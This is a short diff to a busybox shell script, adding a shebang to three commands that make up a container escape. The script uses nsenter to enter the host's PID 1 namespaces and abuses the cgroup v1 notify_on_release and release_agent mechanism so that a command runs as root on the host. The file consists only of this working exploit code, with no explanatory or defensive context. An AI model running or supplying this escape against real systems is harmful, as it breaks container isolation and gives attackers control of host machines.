@@ -1,3 +1,4 @@
+#!/bin/sh
 /bin/busybox mkdir -p /x
 /bin/busybox sh -c '/bin/busybox nsenter -t 1 -m -u -i -n /bin/sh; /bin/busybox sleep 0.3'
 /bin/busybox sh -c '/bin/busybox mount -t cgroup -o rdma cgroup /x; echo 1 >/x/notify_on_release; echo /cmd >/x/release_agent; /bin/busybox sleep 0.3'
